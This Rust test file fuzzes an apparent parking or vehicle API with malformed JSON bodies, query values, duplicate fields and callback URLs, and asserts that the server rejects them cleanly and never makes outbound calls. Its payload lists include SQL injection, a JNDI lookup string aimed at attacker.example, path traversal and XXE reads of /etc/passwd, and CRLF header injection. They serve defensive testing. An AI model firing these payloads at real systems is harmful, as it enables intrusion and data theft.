//! Bodies that nobody expects: another type, size and letters than the table says, in every place
//! of every body.

use mesto_operator::Request;
use mesto_protocol::base::{sign_in, vehicles};
use mesto_protocol::kernel::intents;
use serde_json::{Value, json};

use crate::answers::{Answer, May, answers};
use crate::scene::{Ask, Scene, device_key, signed};
use crate::served::{Served, name};

/// What stands in the place of a value, as JSON text: numbers that no type holds cannot be written
/// otherwise.
fn odd() -> Vec<String> {
    let mut odd: Vec<String> = [
        "null",
        "true",
        "-1",
        "0",
        "1.5",
        "-0.0",
        "1e400",
        "-1e400",
        "1e-400",
        "9007199254740993",
        "18446744073709551616",
        "170141183460469231731687303715884105728",
        "999999999999999999999999999999999999999999",
        "[]",
        "{}",
        "[null]",
        r#""""#,
        r#"" ""#,
        r#""\u0000""#,
        r#""NS123\u0000AB""#,
        r#""\u202e321SN\u202c""#,
        r#""\u2066\u200f\u061c""#,
        r#""\ud800""#,
        r#""\udc00\ud800""#,
        r#""N\u0323\u0307S123AB""#,
        r#""\ufeff\u200b""#,
        r#""\uffff\udbff\udfff""#,
        r#""'; DROP TABLE account; --""#,
        r#""${jndi:ldap://attacker.example}""#,
        r#""../../../etc/passwd""#,
        r#""-9223372036854775809""#,
        r#""+262143-01-01T00:00:00Z""#,
        r#""2025-09-03T08:00:60Z""#,
        r#"{"amount":"80_50","currency":"RSD"}"#,
        r#"{"amount":"1e2","currency":"RSD"}"#,
        r#"{"amount":"-80.00","currency":"RSD"}"#,
        r#"{"amount":"99999999999999999999999.99","currency":"RSD"}"#,
        r#"{"amount":80,"currency":"RSD"}"#,
        r#"{"amount":"80.00","currency":"\u0000SD"}"#,
    ]
    .map(str::to_owned)
    .to_vec();
    odd.push(format!("\"{}\"", "x".repeat(60_000)));
    odd.push(format!("\"{}\"", "\u{301}".repeat(20_000)));
    odd.push("9".repeat(50_000));
    odd.push(nested('[', ']', 120));
    odd.push(nested('[', ']', 30_000));
    odd.push(format!("{}1{}", r#"{"a":"#.repeat(10_000), "}".repeat(10_000)));
    odd
}

fn nested(open: char, close: char, deep: usize) -> String {
    let (open, close) = (open.to_string(), close.to_string());
    format!("{}{}", open.repeat(deep), close.repeat(deep))
}

/// What stands in the place of a value of a query, encoded as it is sent.
const ODD_VALUES: [&str; 22] = [
    "",
    "%00",
    "a%00b",
    "%0d%0aset-cookie:%20x=1",
    "%E2%80%AE",
    "%ff",
    "%",
    "%zz",
    "+",
    "-1",
    "0",
    "201",
    "1e9",
    "9223372036854775808",
    "NaN",
    "inf",
    "-91",
    "1e-400",
    "%27%20OR%201=1--",
    "..%2f..%2fetc%2fpasswd",
    "2025-09-03T08:00:60Z",
    "%F0%9F%9A%97",
];

/// The paths to every value that stands in a body.
fn places(body: &Value) -> Vec<String> {
    let mut places = vec![String::new()];
    let inner: Vec<(String, &Value)> = match body {
        Value::Object(fields) => fields.iter().map(|(name, value)| (format!("/{name}"), value)).collect(),
        Value::Array(items) => items.iter().enumerate().map(|(at, value)| (format!("/{at}"), value)).collect(),
        Value::Null | Value::Bool(_) | Value::Number(_) | Value::String(_) => Vec::new(),
    };
    for (at, value) in inner {
        places.extend(self::places(value).into_iter().map(|rest| format!("{at}{rest}")));
    }
    places
}

/// The body as text, with something else in one of its places.
fn with(body: &Value, place: &str, text: &str) -> String {
    const MARK: &str = "the place of what is put in";
    let mut body = body.clone();
    *body.pointer_mut(place).unwrap() = json!(MARK);
    body.to_string().replace(&format!("\"{MARK}\""), text)
}

/// Sends it as somebody who may.
pub fn send(served: &Served, scene: &Scene<'_>, answer: &Answer, ask: &Ask, body: Vec<u8>) -> (u16, String) {
    let bare = Ask { body: None, is_signed: false, ..ask.clone() };
    let mut request = bare.request(answer.operation, answer.token(scene), &scene.key());
    request.body = body;
    if answer.may == May::Bank {
        request = signed(request);
    }
    let answered = served.ask_of(answer.operation, &request);
    (answered.status, String::from_utf8(answered.body).unwrap())
}

on_both_databases! {
    #[test]
    fn a_body_that_nobody_expects_is_refused_and_never_fails(served) {
        let scene = Scene::new(served);
        let odd = odd();
        let mut sent = 0;
        for answer in answers() {
            for asked in &answer.asked {
                let ask = (asked.ask)(&scene, &scene.a.things);
                let Some(body) = &ask.body else { continue };
                for place in places(body) {
                    for text in &odd {
                        let (status, said) = send(served, &scene, &answer, &ask, with(body, &place, text).into_bytes());
                        // Neither letters that turn others around nor zeros come back.
                        let comes_back = ['\0', '\u{202e}', '\u{2066}'].iter().any(|letter| said.contains(*letter));
                        assert!(!comes_back && !said.contains("\\u0000"), "{} {place} {text:.60}: {said:.300}", name(answer.operation));
                        assert!(said.len() < 20_000, "{}: {} bytes come back", name(answer.operation), said.len());
                        // A body as a whole of another kind is no body of the table.
                        assert!(!place.is_empty() || status >= 400, "{} takes {text:.60}", name(answer.operation));
                        sent += 1;
                    }
                }
            }
        }
        assert!(sent > 2_000, "only {sent} were sent");
        served.check();
    }

    #[test]
    fn a_query_that_nobody_expects_is_refused_and_never_fails(served) {
        let scene = Scene::new(served);
        let long = "x".repeat(7_000);
        for answer in answers() {
            let token = answer.token(&scene);
            let right = answer.right(&scene, &scene.a.things);
            for asked in answer.operation.query {
                for value in ODD_VALUES.iter().copied().chain([long.as_str()]) {
                    let mut ask = right.clone();
                    ask.query.retain(|(name, _)| *name != asked.name);
                    let mut request = ask.request(answer.operation, token, &scene.key());
                    let odd = format!("{}={value}", asked.name);
                    request.query = if request.query.is_empty() { odd } else { format!("{}&{odd}", request.query) };
                    let answered = served.ask_of(answer.operation, &request);
                    let said = String::from_utf8(answered.body).unwrap();
                    assert!(!said.contains('\u{202e}') && !said.contains("\\u0000"), "{} {}={value:.60}: {said}", name(answer.operation), asked.name);
                    // Where it is read at all.
                    let has_controls = value.contains("%00") || value.contains("%0d");
                    let is_read = ![&intents::READ, &intents::CANCEL].iter().any(|one| answer.is(one));
                    assert!(!has_controls || !is_read || answered.status == 400, "{} takes {}={value}: {said}", name(answer.operation), asked.name);
                }
            }
        }
        served.check();
    }

    #[test]
    fn no_address_that_somebody_names_is_called(served) {
        let scene = Scene::new(served);
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        let url = format!("http://{}/x", listener.local_addr().unwrap());
        let mut named = 0;
        for answer in answers() {
            for asked in &answer.asked {
                let mut ask = (asked.ask)(&scene, &scene.a.things);
                // In headers by which a proxy would find its way.
                let mut request = ask.request(answer.operation, answer.token(&scene), &scene.key());
                for header in ["referer", "origin", "forwarded", "x-forwarded-host", "x-original-url", "x-callback-url"] {
                    request = request.header(header, &url);
                }
                if !answer.ends() {
                    served.ask_of(answer.operation, &request);
                }
                let Some(Value::Object(fields)) = &mut ask.body else { continue };
                for field in ["return_url", "callback_url", "notice_url", "image", "url"] {
                    fields.insert(field.to_owned(), json!(url));
                }
                for place in places(ask.body.as_ref().unwrap()) {
                    let body = with(ask.body.as_ref().unwrap(), &place, &json!(url).to_string());
                    send(served, &scene, &answer, &ask, body.into_bytes());
                    named += 1;
                }
            }
        }
        assert!(named > 100, "{named}");
        let called = listener.accept().map(|(_, from)| from).map_err(|why| why.kind());
        assert_eq!(called.unwrap_err(), std::io::ErrorKind::WouldBlock);
    }

    #[test]
    fn a_field_that_stands_twice_is_refused(served) {
        let scene = Scene::new(served);
        for answer in answers() {
            let ask = (answer.asked[0].ask)(&scene, &scene.a.things);
            let Some(Value::Object(fields)) = &ask.body else { continue };
            for (field, value) in fields {
                for other in [value, &json!("another")] {
                    let text = Value::Object(fields.clone()).to_string();
                    let twice = format!("{},{}:{other}}}", text.strip_suffix('}').unwrap(), json!(field));
                    let (status, said) = send(served, &scene, &answer, &ask, twice.into_bytes());
                    assert_eq!(status, 400, "{} with {field} twice: {said}", name(answer.operation));
                }
            }
        }
    }

    #[test]
    fn what_is_no_json_is_refused(served) {
        let scene = Scene::new(served);
        for answer in answers() {
            let ask = (answer.asked[0].ask)(&scene, &scene.a.things);
            let Some(body) = &ask.body else { continue };
            let text = body.to_string();
            let utf16: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
            let broken: Vec<Vec<u8>> = vec![
                Vec::new(),
                b"{".to_vec(),
                text.as_bytes()[..text.len() - 1].to_vec(),
                format!("{text}{text}").into_bytes(),
                format!("{text} x").into_bytes(),
                format!("\u{feff}{text}").into_bytes(),
                text.replace('"', "'").into_bytes(),
                text.replacen('{', "{,", 1).into_bytes(),
                utf16,
                b"\xff\xfe{}".to_vec(),
                b"phone=%2B381641234567".to_vec(),
                b"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>".to_vec(),
                vec![b'['; 65_536],
            ];
            for bytes in broken {
                let (status, said) = send(served, &scene, &answer, &ask, bytes.clone());
                assert_eq!(status, 400, "{} takes {:?}: {said}", name(answer.operation), String::from_utf8_lossy(&bytes[..bytes.len().min(60)]));
            }
            let (status, _) = send(served, &scene, &answer, &ask, vec![b' '; answer.operation.max_body + 1]);
            assert_eq!(status, 413, "{}", name(answer.operation));
        }
    }

    #[test]
    fn what_a_driver_calls_his_things_turns_nothing_around(served) {
        let scene = Scene::new(served);
        let token = scene.a.token.as_str();
        let label = "my\u{202e} \u{7}car\u{2066}\n";
        let vehicle = Ask::body(json!({"city": "belgrade", "plate": "NS777AA", "label": label}));
        let request = vehicle.request(&vehicles::ADD, Some(token), "");
        assert_eq!(served.ask_of(&vehicles::ADD, &request).status, 201);
        let phone = scene.fresh_phone();
        served.ask_of(&sign_in::SEND_CODE, &Ask::body(json!({"phone": phone})).request(&sign_in::SEND_CODE, None, ""));
        let code = mesto_simulation::driver::Counter::last_code(served, &phone);
        let body = json!({"phone": phone, "code": code, "device": label, "device_key": device_key(7)});
        let session: Value = served.ask_of(&sign_in::SIGN_IN, &Ask::body(body).request(&sign_in::SIGN_IN, None, "")).read().unwrap();
        let other = session["token"].as_str().unwrap();
        for (path, token) in [("/v1/vehicles", token), ("/v1/account", token), ("/v1/account/export", token), ("/v1/auth/sessions", other)] {
            let answer = served.send(&Request::new("GET", path).bearer(token));
            let said = String::from_utf8(answer.body).unwrap();
            assert!(said.contains("my car"), "{path}: {said}");
            let turns = said.chars().any(|letter| matches!(letter, '\0' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'));
            assert!(!turns && !said.contains("\\u0000"), "{path}: {said}");
        }
    }
}
